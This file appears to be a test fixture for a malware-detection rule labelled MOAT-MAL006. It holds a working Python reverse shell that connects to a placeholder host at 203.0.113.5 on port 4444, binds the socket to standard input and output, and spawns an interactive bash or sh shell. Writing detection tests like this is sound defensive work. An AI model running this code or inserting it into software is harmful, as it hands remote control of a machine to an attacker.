import os
import pty
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.5", 4444))
# ruleid: MOAT-MAL006
os.dup2(s.fileno(), 0)
# ruleid: MOAT-MAL006
os.dup2(s.fileno(), 1)
# ruleid: MOAT-MAL006
pty.spawn("/bin/bash")
# ruleid: MOAT-MAL006
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())

# ok: MOAT-MAL006
os.dup2(3, 4)
